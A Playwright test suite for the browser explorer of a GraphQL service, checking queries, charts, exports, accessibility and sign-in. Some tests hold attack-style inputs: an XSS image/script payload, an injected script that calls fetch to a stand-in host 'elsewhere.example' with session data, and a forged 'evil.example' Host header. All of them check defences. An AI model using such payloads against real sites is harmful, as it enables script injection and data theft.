import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { get, type IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { packageRoot } from '#base/package-root';
import { describeInBrowser, openBrowser } from '../support/browser';
import { freePort, killAll, requireCompiled, run, runProgram, waitForOutput } from '../support/processes';
import { QUESTIONS } from '../support/questions';

/** Stands in for Apollo's script: it lets the test call the page's own request function. */
const SANDBOX = 'window.EmbeddedSandbox = class { constructor(options) { window.sandbox = options; } };';

/** Requires a role. */
const RESTRICTED = '{ aiToolAdoption { __typename } }';

const AXE = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');

let folder: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let complaints: string[];

/** Starts a graph with exercise data. @returns its origin */
async function startGraph(name: string, args: readonly string[] = []): Promise<string> {
  const port = await freePort();
  const start = run(['start', '--port', String(port), '--data', join(folder, name), ...args]);
  await waitForOutput(start, /The graph answers at/);
  return `http://localhost:${port}`;
}

/** Opens a browser tab that reaches `origins` only, and notes what the page's policy blocks. */
async function openTab(origins: readonly string[], options: Parameters<Browser['newContext']>[0] = {}): Promise<void> {
  context = await browser.newContext(options);
  page = await context.newPage();
  page.setDefaultTimeout(60_000);
  complaints = [];
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) complaints.push(message.text());
  });
  await page.route(
    (url) => !origins.includes(url.origin) && !url.protocol.startsWith('blob'),
    (route) => route.abort(),
  );
}

/** What axe-core finds wrong on the page. Its script is not the page's, so it runs beside the policy. */
async function accessibilityFaults(): Promise<string[]> {
  await page.evaluate(AXE);
  const found = await page.evaluate<{ id: string; targets: string[] }[]>(
    `axe.run().then(({ violations }) => violations.map(({ id, nodes }) => ({ id, targets: nodes.map(({ target }) => target.join(' ')) })))`,
  );
  return found.map(({ id, targets }) => `${id}: ${targets.join(', ')}`);
}

beforeAll(async () => {
  requireCompiled();
  folder = mkdtempSync(join(tmpdir(), 'ordergraph-explorer-'));
});
afterAll(async () => {
  await killAll();
  rmSync(folder, { recursive: true, force: true });
});

describeInBrowser('the explorer of `npm start`', () => {
  let origin: string;

  beforeAll(async () => {
    origin = await startGraph('data');
    browser = await openBrowser();
  });
  afterEach(() => context.close());
  afterAll(() => browser.close());

  /** The graph's own answer. */
  async function ask(query: string, variables: object, who: string) {
    const token = await page.evaluate<string>(
      `JSON.parse(document.getElementById('config').textContent).callers.find(({ name }) => name === '${who}').token`,
    );
    const response = await fetch(`${origin}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ query, variables }),
    });
    // biome-ignore lint/suspicious/noExplicitAny: a test reads what it asked for
    return ((await response.json()) as { data: any }).data;
  }

  const open = async (path = '/explorer', options: Parameters<Browser['newContext']>[0] = {}) => {
    await openTab([origin], options);
    await page.goto(`${origin}${path}`);
    if (options.javaScriptEnabled !== false) await page.getByRole('button', { name: /^Single keys/ }).waitFor();
  };
  const askAs = (name: string) => page.getByLabel('Ask as').selectOption(name);
  const type = async (text: string) => {
    await page.getByRole('textbox', { name: 'Operation' }).fill(text);
  };
  const runIt = async () => {
    await page.getByRole('button', { name: /^Run/ }).click();
    await page.locator('.answer[aria-busy=false]').waitFor();
  };
  const choose = async (program: string, title: string) => {
    await page.locator('summary', { hasText: program }).click();
    await page.getByRole('button', { name: title }).click();
  };
  /** Texts of the rows in sight. */
  const cells = () =>
    page.evaluate<string[][]>(
      `[...document.querySelectorAll('.grid tbody tr:not(.spacer)')].map((row) => [...row.cells].map((cell) => cell.title || cell.innerText))`,
    );

  test('opens where Apollo Sandbox cannot be reached, and shows a ready question as a table', async () => {
    await open('/graphql');
    await page.waitForURL('**/explorer');
    await askAs('Inspector general');
    await choose('Voluntary framework', 'Launching in 30 days');
    await runIt();
    const text = readFileSync(join(QUESTIONS, '02-launching-soon.graphql'), 'utf8');
    const variables = JSON.parse(
      await page.evaluate(`JSON.parse(sessionStorage['ordergraph.tabs']).open[0].variables`),
    );
    const { nodes } = (await ask(text, variables, 'Inspector general')).submissions;
    const expected = nodes.flatMap(({ number, daysToLaunch, determinations }: never) =>
      (determinations as { nodes: { agency: { key: string } }[] }).nodes.map(({ agency }) => [
        number,
        String(daysToLaunch),
        agency.key,
      ]),
    );
    expect(expected.length).toBeGreaterThan(5);
    const shown = await cells();
    expect(shown.map((row) => row.slice(0, 3))).toEqual(expected.slice(0, shown.length));
    expect(complaints).toEqual([]);
  });

  test('changes an operation by clicking, and draws its chart', async () => {
    await open();
    await askAs('Analyst');
    await page.getByRole('searchbox', { name: 'Find a type or field' }).waitFor();
    await page.getByRole('button', { name: 'Fields of agencies' }).click();
    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).check();
    await page.getByRole('checkbox', { name: 'agencies.medianDaysToRemediate', exact: true }).check();
    const editor = page.getByRole('textbox', { name: 'Operation' });
    await expect(editor.textContent()).resolves.toMatch(/agencies \{\s*name\s*medianDaysToRemediate\s*\}/);
    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).uncheck();
    await expect(editor.textContent()).resolves.not.toMatch(/name/);
    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).check();
    await runIt();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV', exact: true }).click(),
    ]);
    const lines = readFileSync(await download.path(), 'utf8')
      .trim()
      .split('\r\n');
    expect(lines.find((line) => !line.startsWith('#'))).toBe('medianDaysToRemediate,name');
    await page.keyboard.press('Escape');
    await page.getByRole('tab', { name: 'Chart' }).click();
    const chart = page.getByRole('img', { name: 'medianDaysToRemediate by name' }).or(page.locator('.chart svg'));
    await chart.first().waitFor();
    const { agencies } = await ask('{ agencies { medianDaysToRemediate } }', {}, 'Analyst');
    const values = agencies.filter(
      (agency: { medianDaysToRemediate: number | null }) => agency.medianDaysToRemediate !== null,
    );
    expect(await page.locator('.chart [data-mark="bar"] rect').count()).toBe(values.length);
    expect(complaints).toEqual([]);
  });

  test('answers a question across two programs, built by clicking alone', async () => {
    await open();
    await askAs('Analyst');
    await page.getByRole('checkbox', { name: 'agencies', exact: true }).check();
    const find = page.getByRole('searchbox', { name: 'Find a type or field' });
    const add = async (name: string) => {
      await find.fill(name.split('.').at(-1)!);
      await page.getByRole('checkbox', { name, exact: true }).check();
      await page
        .getByRole('button', { name: `Fields of ${name.split('.').at(-1)}` })
        .first()
        .click();
      await page.getByRole('checkbox', { name: `${name}.nodes`, exact: true }).uncheck();
      await find.fill('');
    };
    const where = async (list: string, field: string, value: string) => {
      await page.getByRole('button', { name: `Filter, sort, page size of ${list}` }).click();
      const panel = page.getByRole('group', { name: `Filter, sort, page size of ${list}` });
      await panel.getByLabel('Field to filter by').selectOption(field);
      await panel.getByLabel(`Value of ${field}`).selectOption(value);
      await panel.getByRole('button', { name: 'Add condition' }).click();
    };
    await add('agencies.reviews');
    await where('agencies.reviews', 'open', 'true');
    await add('agencies.positions');
    await where('agencies.positions', 'status', 'FUNDED_VACANT');
    const editor = page.getByRole('textbox', { name: 'Operation' });
    expect(await editor.textContent()).toContain('reviews(filter: {open: {eq: $open}})');
    await runIt();
    const { agencies } = await ask(
      '{ agencies { name reviews(filter: { open: { eq: true } }) { totalCount } positions(filter: { status: { eq: FUNDED_VACANT } }) { totalCount } } }',
      {},
      'Analyst',
    );
    type Counted = { name: string; reviews: { totalCount: number }; positions: { totalCount: number } };
    const expected = (agencies as Counted[]).map(({ name, reviews, positions }) => [
      name,
      String(reviews.totalCount),
      String(positions.totalCount),
    ]);
    expect(expected.some(([, reviews, positions]) => reviews !== '0' && positions !== '0')).toBe(true);
    const shown = await cells();
    expect(shown).toEqual(expected.slice(0, shown.length));
    await page.getByRole('tab', { name: 'Chart' }).click();
    await page.locator('.chart svg').first().waitFor();
    await page
      .locator('.table-tools label', { hasText: /^and/ })
      .locator('select')
      .selectOption('positions.totalCount');
    await page.getByRole('img', { name: 'reviews.totalCount and positions.totalCount by name' }).waitFor();
    expect(await page.locator('.chart [data-mark="bar"] rect').count()).toBe(2 * agencies.length);
    expect(await accessibilityFaults()).toEqual([]);
    await page.getByRole('tab', { name: 'Table' }).click();
    await page.getByRole('button', { name: 'Remove: open equals' }).click();
    expect(await editor.textContent()).not.toContain('$open');
    expect(await page.evaluate(`JSON.parse(sessionStorage['ordergraph.tabs']).open[0].variables`)).toBe(
      JSON.stringify({ status: 'FUNDED_VACANT' }, null, 2),
    );
    expect(complaints).toEqual([]);
  });

  test('sorts, sizes pages, and chooses dimensions of groups in the schema tree', async () => {
    await open();
    await askAs('Analyst');
    await page.getByRole('searchbox', { name: 'Find a type or field' }).fill('positions');
    await page.getByRole('checkbox', { name: 'positions', exact: true }).check();
    await page.getByRole('searchbox', { name: 'Find a type or field' }).fill('');
    await page.getByRole('button', { name: 'Filter, sort, page size of positions' }).click();
    const panel = page.getByRole('group', { name: 'Filter, sort, page size of positions' });
    await panel.getByLabel('field', { exact: true }).selectOption('CREATED_AT');
    await panel.getByLabel('direction', { exact: true }).selectOption('DESC');
    await panel.getByLabel('first', { exact: true }).fill('3');
    await panel.getByLabel('first', { exact: true }).blur();
    await page.getByRole('checkbox', { name: 'positions.groups', exact: true }).check();
    const editor = page.getByRole('textbox', { name: 'Operation' });
    const text = (await editor.textContent())!;
    expect(text).toContain('positions(orderBy: [{field: CREATED_AT, direction: DESC}], first: 3)');
    expect(text).toMatch(/groups\(by: \[\{field: \w+\}\]\)/);
    await page.getByRole('button', { name: 'by 1 of positions.groups' }).click();
    const groups = page.getByRole('group', { name: 'Arguments of positions.groups' });
    await groups.getByLabel('field', { exact: true }).first().selectOption('STATUS');
    expect(await editor.textContent()).toMatch(
      /groups\(by: \[\{field: STATUS\}\]\) \{.*aggregates \{\s*count\s*\}.*status/,
    );
    await runIt();
    expect(await cells()).toHaveLength(3);
    await page.locator('.answer-bar select').selectOption('positions.groups.nodes');
    const counted = await ask(
      '{ positions { groups(by: [{ field: STATUS }]) { nodes { aggregates { count } } } } }',
      {},
      'Analyst',
    );
    type Group = { aggregates: { count: number } };
    const counts = counted.positions.groups.nodes.map(({ aggregates }: Group) =>
      aggregates.count.toLocaleString('en-US'),
    );
    expect(counts.length).toBeGreaterThan(1);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV', exact: true }).click(),
    ]);
    const lines = readFileSync(await download.path(), 'utf8').split('\r\n');
    expect(lines.filter((line) => line !== '' && !line.startsWith('#'))).toHaveLength(counts.length + 1);
    expect((await cells()).map((row) => row.find((cell) => /^[\d,]+$/.test(cell)))).toEqual(counts);
    expect(await page.locator('.errors').count()).toBe(0);
  });

  test('hides columns and rows of a table', async () => {
    await open();
    await askAs('Analyst');
    await type('{ sectors(first: 20) { nodes { key name riskLevel } } }');
    await runIt();
    await page.locator('.columns summary').click();
    await page.getByRole('checkbox', { name: 'key', exact: true }).uncheck();
    const all = await cells();
    expect(all).toHaveLength(16);
    expect(all.every((row) => row.length === 2)).toBe(true);
    await page.getByRole('searchbox', { name: 'Rows with' }).fill('SERVICES');
    const some = await cells();
    expect(some).toEqual(all.filter((row) => row.join(' ').toUpperCase().includes('SERVICES')));
    expect(some.length).toBeGreaterThan(0);
    await page.getByRole('checkbox', { name: 'name', exact: true }).uncheck();
    expect(await page.getByRole('checkbox', { name: 'riskLevel', exact: true }).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Show all columns' }).click();
    await page.getByRole('button', { name: 'Show all rows' }).click();
    expect((await cells()).map((row) => row.length)).toEqual(Array(16).fill(3));
  });

  test('keeps the marks of the schema tree while the operation has a mistake', async () => {
    await open();
    await type('{ sectors(first: 2) { nodes { key } } }');
    const key = page.getByRole('checkbox', { name: 'sectors.nodes.key', exact: true });
    await key.waitFor();
    expect([await key.isChecked(), await key.isEnabled()]).toEqual([true, true]);
    await type('{ sectors(first: 2) { nodes { key ');
    await page.getByText('the tree shows its last valid state').waitFor();
    expect([await key.isChecked(), await key.isEnabled()]).toEqual([true, false]);
    await type('{ sectors(first: 2) { nodes { name } } }');
    await page.getByText('the tree shows its last valid state').waitFor({ state: 'detached' });
    expect([await key.isChecked(), await key.isEnabled()]).toEqual([false, true]);
  });

  test('saves an operation, opens it by its link, and downloads the whole list', async () => {
    await open();
    await askAs('Analyst');
    await type('query Roles { workRoles(first: 3) { nodes { code name } } }');
    await page.getByRole('button', { name: 'Save as question' }).click();
    await page.getByRole('textbox', { name: 'Description' }).fill('All roles of the framework');
    await page.getByRole('button', { name: 'Save as a new question' }).click();
    const [link] = /http\S+/.exec((await page.getByText('Saved as version 1').textContent()) ?? '')!;
    await page.evaluate('sessionStorage.removeItem("ordergraph.tabs")');
    await page.goto(link);
    await page.getByRole('button', { name: 'Roles', exact: true }).first().waitFor();
    await runIt();
    await page.getByText('3 rows').waitFor();
    const { workRoles } = await ask('{ workRoles(first: 500) { nodes { code name } } }', {}, 'Analyst');
    expect(workRoles.nodes.length).toBeGreaterThan(3);
    const contents: string[] = [];
    for (const name of ['CSV', 'JSON Lines']) {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name, exact: true }).click(),
      ]);
      contents.push(readFileSync(await download.path(), 'utf8'));
    }
    const rows = contents[0]!.split('\r\n').filter((line) => line !== '' && !line.startsWith('#'));
    expect(rows).toHaveLength(workRoles.nodes.length + 1);
    expect(rows[0]).toBe('code,name');
    const objects = contents[1]!
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(objects.slice(1)).toEqual(workRoles.nodes);
  });

  test('sorts rows, limits them to chosen values, and shows figures outside of lists', async () => {
    await open();
    await askAs('Analyst');
    await type('{ sectors(first: 20) { totalCount nodes { key name riskLevel } } }');
    await runIt();
    await page.locator('.grid').getByRole('button', { name: 'key', exact: true }).click();
    await page.locator('.grid').getByRole('button', { name: 'key', exact: true }).click();
    const keys = (await cells()).map(([key]) => key!);
    expect(keys).toEqual(keys.toSorted().reverse());
    expect(keys).toHaveLength(16);
    const level = page.locator('.facet').first();
    const [name, count] = [await level.locator('.value').textContent(), await level.locator('.num').textContent()];
    await level.getByRole('checkbox').check();
    expect((await cells()).map((row) => row[2])).toEqual(Array(Number(count)).fill(name));
    await page.locator('.answer-bar select').selectOption('');
    expect(await cells()).toEqual([['sectors.totalCount', '16']]);
  });

  test('says what rights withheld, what an error means, and that a sign-in has ended', async () => {
    await open();
    await askAs('the public');
    await type(RESTRICTED);
    await runIt();
    await page.getByText('Query.aiToolAdoption').waitFor();
    await type('{ sectors { nodes { nam } } }');
    await runIt();
    await page.getByText('line 1: Cannot query field "nam" on type "Sector"').waitFor();
    await type('{ sectors { ');
    await runIt();
    await page.getByText('Syntax Error').first().waitFor();
    await page.evaluate(`sessionStorage['ordergraph.signed-in'] = JSON.stringify({ name: 'someone', token: 'a.b.c' })`);
    await page.reload();
    await type('{ sectors(first: 1) { nodes { key } } }');
    await runIt();
    await page.getByText('Your sign-in ended').waitFor();
    expect(await page.getByRole('textbox', { name: 'Operation' }).textContent()).toContain('sectors(first: 1)');
  });

  test('shows no answer to a caller who did not ask', async () => {
    await open();
    await askAs('Inspector general');
    let answer = () => {};
    const held = new Promise<void>((resolve) => {
      answer = resolve;
    });
    await page.route('**/graphql', async (route) => {
      const response = await route.fetch();
      await held;
      // the page may have given the request up
      await route.fulfill({ response }).catch(() => {});
    });
    await type('{ submissions(first: 3) { nodes { number } } }');
    await page.getByRole('button', { name: /^Run/ }).click();
    await page.getByText('Asking …').waitFor();
    await askAs('the public');
    answer();
    await page.getByText('Run an operation to see its answer here').waitFor();
    await page.unroute('**/graphql');
    await type('{ sectors(first: 2) { nodes { key } } }');
    await runIt();
    expect(await page.locator('main').textContent()).not.toContain('AIS-');
  });

  test('keeps open operations when a link opens another', async () => {
    await open();
    await type('query Mine { sectors(first: 1) { nodes { key } } }');
    const linked = { text: 'query Linked { sectors(first: 2) { nodes { key } } }', title: 'Linked' };
    await page.goto(`${origin}/dashboard`);
    await page.goto(`${origin}/explorer#q=${encodeURIComponent(JSON.stringify(linked))}`);
    await page.getByRole('button', { name: 'Linked', exact: true }).waitFor();
    await page.getByRole('button', { name: 'Mine', exact: true }).waitFor();
    await runIt();
    await page.getByText('2 rows').waitFor();
    await page.getByText('perhaps more pages exist').waitFor();
  });

  test('shows data as text, whatever is in them', async () => {
    await open();
    const hostile = '<img src=x onerror="window.injected = true"><script>window.injected = true</script>';
    await page.route('**/graphql', async (route) => {
      const response = await route.fetch();
      const body = await response.text();
      await route.fulfill({ response, body: body.replaceAll('"Chemical"', JSON.stringify(hostile)) });
    });
    await type('{ sectors(first: 20) { nodes { key name } } }');
    await runIt();
    expect((await cells()).map(([, name]) => name)).toContain(hostile);
    await page.getByRole('tab', { name: 'JSON' }).click();
    await page.getByText('onerror').waitFor();
    expect(await page.evaluate('window.injected')).toBeUndefined();
  });

  test.each([
    ['light', { width: 1440, height: 900 }],
    ['dark', { width: 1440, height: 900 }],
    ['light', { width: 390, height: 844 }],
    ['dark', { width: 3840, height: 2160 }],
  ] as const)('is accessible and fits, %s, %o', async (colorScheme, viewport) => {
    await open('/explorer', { colorScheme, viewport });
    await askAs('Analyst');
    await choose('Infrastructure', 'Sectors at risk');
    await runIt();
    await page.locator('.details').waitFor();
    expect(await accessibilityFaults()).toEqual([]);
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    if (viewport.width > 700) {
      await page.locator('.tree').getByRole('button', { name: 'agency', exact: true }).first().click();
      await page.getByRole('tab', { name: 'JSON' }).click();
      expect(await accessibilityFaults()).toEqual([]);
    }
  });

  test('downloads and draws no withheld count as zero', async () => {
    await open();
    await askAs('Analyst');
    await type('{ agencies { name vulnerabilityFindings { totalCount } sectors: positions { totalCount } } }');
    await runIt();
    expect(await page.locator('.grid tbody td.withheld').first().textContent()).toBe('withheld');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV' }).click(),
    ]);
    const lines = readFileSync(await download.path(), 'utf8').split('\r\n');
    expect(lines).toContainEqual(expect.stringMatching(/^# Withheld: .*vulnerabilityFindings/));
    const [head, row] = lines.filter((line) => !line.startsWith('#'));
    expect([head, row]).toEqual([
      'name,vulnerabilityFindings.totalCount,sectors.totalCount',
      expect.stringMatching(/,,\d+$/),
    ]);
    await page.getByRole('tab', { name: 'Chart' }).click();
    // the first number that is not withheld
    await page.getByRole('img', { name: 'sectors.totalCount by name' }).waitFor();
  });

  test('draws bars of zero without a length', async () => {
    await open();
    await askAs('Inspector general');
    await type(
      '{ announcements(first: 3) { nodes { controlNumber agency { positions(filter: { title: { eq: "none" } }) { totalCount } } } } }',
    );
    await runIt();
    await page.getByRole('tab', { name: 'Chart' }).click();
    await page.locator('.chart [data-mark="bar"] rect').first().waitFor({ state: 'attached' });
    const heights = await page.evaluate<string[]>(
      `[...document.querySelectorAll('.chart [data-mark="bar"] rect')].map((bar) => bar.getAttribute('height'))`,
    );
    expect(new Set(heights)).toEqual(new Set(['0']));
  });

  test('works by keyboard alone', async () => {
    await open();
    await page.keyboard.press('/');
    await page.keyboard.type('riskLevel');
    await page.getByRole('button', { name: 'Sector.riskLevel' }).waitFor();
    await page.getByRole('textbox', { name: 'Operation' }).focus();
    await page.keyboard.press('Control+a');
    await page.keyboard.type('{ sectors(first: 2) { nodes { key', { delay: 5 });
    await page.keyboard.press('Control+Enter');
    await page.locator('.grid tbody tr:not(.spacer)').nth(1).waitFor();
    // the first may close a list of completions
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(`document.activeElement.closest('.editor')`)).toBeNull();
    await page.keyboard.press('3');
    await page.getByRole('tab', { name: 'JSON', selected: true }).waitFor();
    await page.getByRole('link', { name: 'Skip to answer' }).focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(`document.activeElement.closest('.answer') !== null`)).toBe(true);
  });

  test('ignores single keys once they are turned off, also after a reload', async () => {
    await open();
    const jsonTab = (selected: boolean) => page.getByRole('tab', { name: 'JSON', selected }).waitFor();
    await page.keyboard.press('3');
    await jsonTab(true);
    await page.getByRole('button', { name: 'Single keys on' }).click();
    await page.reload();
    await page.getByRole('button', { name: 'Single keys off' }).focus();
    await page.keyboard.press('1');
    await page.keyboard.press('3');
    await jsonTab(false);
    await page.getByRole('tab', { name: 'Chart' }).click();
    await page.keyboard.press('3');
    await page.getByRole('tab', { name: 'Chart', selected: true }).waitFor();
  });

  test('shows all parts without scrolling sideways at a zoom of 400 percent, and with wide text spacing', async () => {
    await open('/explorer', { viewport: { width: 320, height: 800 } });
    await askAs('Analyst');
    await choose('Infrastructure', 'Sectors at risk');
    await runIt();
    for (const name of ['Questions', 'Schema', 'Operation', 'Variables'])
      expect(await page.getByRole('heading', { name }).isVisible()).toBe(true);
    expect(await page.locator('.facets').isVisible()).toBe(true);
    const fits = () => page.evaluate<boolean>('document.documentElement.scrollWidth <= innerWidth');
    expect(await fits()).toBe(true);
    // the values of WCAG 1.4.12
    await page.evaluate(`{
      const spacing = new CSSStyleSheet();
      spacing.replaceSync('* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important }');
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, spacing];
    }`);
    expect(await fits()).toBe(true);
    expect(await accessibilityFaults()).toEqual([]);
  });

  test('has targets of 24 pixels, or as much room around them', async () => {
    await open();
    await askAs('Analyst');
    await type('{ agencies { key } sectors(first: 3) { nodes { id key } } }');
    await page.getByRole('button', { name: 'Fields of agencies' }).waitFor();
    await runIt();
    await page.evaluate(AXE);
    const found = await page.evaluate<string[]>(
      `axe.run({ runOnly: ['target-size'] }).then(({ violations }) => violations.flatMap(({ nodes }) => nodes.map(({ html }) => html)))`,
    );
    expect(found).toEqual([]);
    expect(await page.locator('.branch input').count()).toBeGreaterThan(50);
  });

  test('covers no field of the schema that has the focus', async () => {
    await open();
    await askAs('Analyst');
    await page.locator('.tree .field').first().click();
    await page.locator('.documentation').waitFor();
    await page.locator('.tree input').first().focus();
    const covered: string[] = [];
    for (let stop = 0; stop < 90; stop++) {
      await page.keyboard.press('Tab');
      const name = await page.evaluate<string | null>(`{
        const { activeElement: stop } = document;
        const { left, right, top, bottom } = stop.getBoundingClientRect();
        const shown = document.elementFromPoint((left + right) / 2, (top + bottom) / 2);
        stop === shown || stop.contains(shown) ? null : stop.textContent || stop.getAttribute('aria-label')
      }`);
      if (name !== null) covered.push(name);
    }
    expect(covered).toEqual([]);
    expect(await page.evaluate(`document.querySelector('.tree').scrollTop`)).toBeGreaterThan(0);
  });

  test('says what it needs without JavaScript', async () => {
    await open('/explorer', { javaScriptEnabled: false });
    // Playwright finds no text in noscript
    await page.locator('noscript p').waitFor();
  });

  test('gives Apollo Sandbox this graph and the chosen identity for every request', async () => {
    await openTab([origin]);
    await page.route(/apollographql\.com/, (route) => route.fulfill({ contentType: 'text/javascript', body: SANDBOX }));
    await page.goto(`${origin}/graphql`);
    const options = await page.evaluate<{ initialEndpoint: string; target: string }>('window.sandbox');
    expect(options).toMatchObject({ initialEndpoint: `${origin}/graphql`, runTelemetry: false });
    expect(await page.locator(options.target).isVisible()).toBe(true);
    const request = () =>
      page.evaluate<{ extensions: { withheld?: unknown[] } }>(`sandbox.handleRequest(sandbox.initialEndpoint, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: ${JSON.stringify(JSON.stringify({ query: RESTRICTED }))},
      }).then((response) => response.json())`);
    expect((await request()).extensions.withheld).toMatchObject([{ coordinate: 'Query.aiToolAdoption' }]);
    await askAs('Analyst');
    expect((await request()).extensions.withheld).toBeUndefined();
    expect(complaints).toEqual([]);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    await page.getByRole('button', { name: 'Copy token' }).click();
    const copied = await page.evaluate<string>('navigator.clipboard.readText()');
    expect(copied).toBe(await page.getByLabel('Ask as').inputValue());
    expect(copied).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
  });

  test.each(['/explorer', '/dashboard'])(
    '%s runs only its own scripts and sends its data to no other site',
    async (path) => {
      await open(path);
      await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
    }`);
      expect(await page.evaluate('window.injected')).toBeUndefined();
      await expect(page.evaluate(`fetch('https://elsewhere.example/?' + sessionStorage.length)`)).rejects.toThrow(
        'Failed to fetch',
      );
      await expect(
        page.evaluate(`new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = () => reject(new Error('not loaded'));
        image.src = 'https://elsewhere.example/pixel';
      })`),
      ).rejects.toThrow('not loaded');
      for (const directive of ['script-src', 'connect-src', 'img-src'])
        expect(complaints).toContainEqual(expect.stringContaining(directive));
    },
  );

  test('gives no page with tokens to other names of this machine', async () => {
    for (const path of ['/explorer', '/dashboard', '/graphql']) {
      const response = await new Promise<IncomingMessage>((resolve) =>
        get(`${origin}${path}`, { headers: { host: 'evil.example', accept: 'text/html' } }, resolve),
      );
      expect([path, response.statusCode, (await text(response)).includes('eyJ')]).toEqual([path, 403, false]);
    }
  });
});

describeInBrowser('signing in', () => {
  afterAll(() => browser?.close());

  test('at an OpenID provider, with PKCE', async () => {
    const port = await freePort();
    const origin = `http://localhost:${port}`;
    const provider = runProgram(process.execPath, [
      join(packageRoot, 'test', 'support', 'sign-in-provider.mjs'),
      `${origin}/signed-in`,
    ]);
    const [, issuer] = await waitForOutput(provider, /Provider (http\S+)/);
    const issuers = join(folder, 'issuers.json');
    writeFileSync(
      issuers,
      JSON.stringify([{ issuer, audience: 'https://ordergraph.example', roles: { analyst: 'analyst' } }]),
    );
    const start = run([
      ...['start', '--port', String(port), '--data', join(folder, 'signed-in'), '--scale', '1', '--auth', issuers],
      ...['--sign-in-issuer', issuer!, '--sign-in-client', 'ordergraph-pages'],
    ]);
    await waitForOutput(start, /The graph answers at/);
    browser = await openBrowser();
    await openTab([origin, issuer!]);
    await page.goto(`${origin}/graphql`);
    await page.waitForURL('**/explorer');
    await page.getByText('the public').waitFor();
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.locator('input[name=login]').fill('Ada Analyst');
    await page.locator('input[name=password]').fill('anything');
    await page.locator('button[type=submit]').click();
    await page.locator('button[type=submit]').click();
    await page.waitForURL('**/explorer');
    await page.getByText('Ada Analyst').waitFor();
    expect(complaints).toEqual([]);
    await page.getByRole('textbox', { name: 'Operation' }).fill(RESTRICTED);
    await page.getByRole('button', { name: /^Run/ }).click();
    await page.locator('.answer[aria-busy=false]').waitFor();
    await page.getByText('No rule takes anything away').waitFor();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('the public').waitFor();
  });
});
